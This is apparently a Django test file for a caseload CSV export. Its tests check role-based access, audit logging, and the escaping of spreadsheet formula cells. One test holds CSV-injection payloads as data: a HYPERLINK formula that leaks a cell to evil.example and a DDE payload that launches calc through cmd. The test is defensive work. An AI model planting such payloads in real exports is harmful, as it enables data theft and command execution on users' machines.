"""Export (issue #4): a case director downloads the cases they direct as CSV, with formula cells
neutralised (OWASP "CSV Injection"), and every export is logged; other roles get 403."""

import csv
import io

import pytest
from django.urls import reverse

from cases.views.export import NOT_A_CASE_DIRECTOR
from privacy.models import AccessAction, AccessLogEntry, AccessLogSubject, Outcome
from privacy.pseudonyms import pseudonym
from tests import factories as f

EXPORT = "/export/caseload.csv"


def rows_of(response) -> list[dict[str, str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


@pytest.fixture
def director_client(client, case_director):
    client.force_login(case_director)
    return client


def test_the_route_is_the_issue_s(db):
    assert reverse("caseload_export") == EXPORT


def test_a_case_director_exports_the_cases_they_direct_with_every_column(director_client, case_director, case):
    f.OffenceFactory(case=case)
    closed = f.CaseFactory(case_director=case_director, afgesloten=True)
    someone_elses = f.CaseFactory(lokale_pga=True)
    f.TeamMemberFactory(case=someone_elses, organisation=case_director.organisation, added_by=someone_elses.case_director)

    response = director_client.get(EXPORT)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="caseload-')
    rows = rows_of(response)
    assert sorted(row["Casus-ID"] for row in rows) == sorted([str(case.pk), str(closed.pk)])  # not the one they only see
    row = next(row for row in rows if row["Casus-ID"] == str(case.pk))
    person = case.person
    assert (row["BSN"], row["Voornamen"], row["Achternaam"]) == (person.bsn, person.given_names, person.surname)
    assert row["Geboortedatum"] == person.date_of_birth.isoformat()
    assert row["Niveau"] == "Lokale PGA" and row["Status"] == "Actief"
    assert row["Casusregisseur"] == str(case_director)
    assert row["Laatste delict"] and row["Vroegste uitstroomdatum"]
    assert row["LVB"] == "nee" and row["Zorg betrokken"] == "nee"
    # The default matrix gives a case director every category (DOMAIN.md §8): every column is there.
    assert {"BSN", "LVB", "Netwerk in de drugswereld", "In detentie", "Zorg betrokken", "Procesregisseur"} <= set(row)


def test_formula_cells_are_neutralised(director_client, case_director):
    payloads = {
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")': "'=HYPERLINK(",
        "+31 6 1234": "'+31",
        "-2+3+cmd|' /C calc'!A0": "'-2+3",
        "@SUM(1+1)": "'@SUM",
    }
    for surname in payloads:
        f.CaseFactory(case_director=case_director, person__surname=surname, person__given_names="\tTab")

    rows = rows_of(director_client.get(EXPORT))

    surnames = sorted(row["Achternaam"] for row in rows)
    for surname, start in payloads.items():
        assert any(cell.startswith(start) for cell in surnames), surname
    assert not [cell for cell in surnames if cell[:1] in "=+-@"]
    assert {row["Voornamen"] for row in rows} == {"'\tTab"}
    # A date or a plain number stays as it is.
    assert all(row["Geboortedatum"][:1].isdigit() and row["BSN"].isdigit() for row in rows)


def test_every_export_is_logged_with_its_cases_and_persons(director_client, case_director, case):
    other = f.CaseFactory(case_director=case_director)

    director_client.get(EXPORT)

    entry = AccessLogEntry.objects.get()
    assert (entry.action, entry.outcome, entry.user) == (AccessAction.EXPORT, Outcome.ALLOWED, case_director)
    assert entry.status_code == 200
    assert sorted(entry.object_ids) == sorted([str(case.pk), str(other.pk)])
    assert sorted(s.pseudonym for s in entry.subjects.all()) == sorted(pseudonym(c.person_id) for c in (case, other))
    assert {"identificatie", "justitieel", "zorg", "plan"} <= set(entry.categories)
    assert entry.view == "caseload_export"


def test_an_empty_export_is_logged_too(client, db):
    director = f.UserFactory(case_director=True)
    client.force_login(director)

    response = client.get(EXPORT)

    assert response.status_code == 200 and rows_of(response) == []
    assert AccessLogEntry.objects.get().action == AccessAction.EXPORT


@pytest.mark.parametrize("kind", ["process_director", "politie", "altrecht", "administrator", "privacy_officer"])
def test_other_roles_get_403_with_a_dutch_reason_and_a_denied_row(client, case, kind):
    user = f.UserFactory(**{kind: True})
    if kind == "process_director":
        case.process_director = user  # even a director of the case: the export is the case director's
        case.save()
    client.force_login(user)

    response = client.get(EXPORT)

    assert response.status_code == 403
    html = response.content.decode()
    assert NOT_A_CASE_DIRECTOR in html and case.person.surname not in html
    entry = AccessLogEntry.objects.get()
    assert (entry.action, entry.outcome) == (AccessAction.EXPORT, Outcome.DENIED)
    assert not AccessLogSubject.objects.exists()


def test_anonymous_users_are_sent_to_the_login_page(client, case):
    response = client.get(EXPORT)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_caseload_page_offers_the_export_only_to_case_directors(client, case_director, politie_user):
    client.force_login(case_director)
    assert EXPORT in client.get(reverse("caseload")).content.decode()
    client.force_login(politie_user)
    assert EXPORT not in client.get(reverse("caseload")).content.decode()


def test_post_is_not_allowed(director_client):
    assert director_client.post(EXPORT).status_code == 405
